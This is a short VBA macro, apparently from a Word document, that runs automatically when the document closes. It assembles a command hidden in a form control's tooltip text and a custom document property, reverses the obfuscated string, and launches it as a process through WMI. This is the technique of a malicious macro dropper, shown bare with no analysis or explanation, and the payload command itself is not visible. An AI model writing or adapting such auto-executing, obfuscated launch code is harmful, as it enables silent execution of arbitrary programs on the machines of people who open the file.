Sub Document_Close()
    On Error Resume Next
    k = UserForm1.Label1.ControlTipText & ActiveDocument.CustomDocumentProperties("t")
    Set w = GetObject("winmgmts:\\.\root\cimv2:Win32_Process")
    w.Create StrReverse(k), Null, Null, z
End Sub
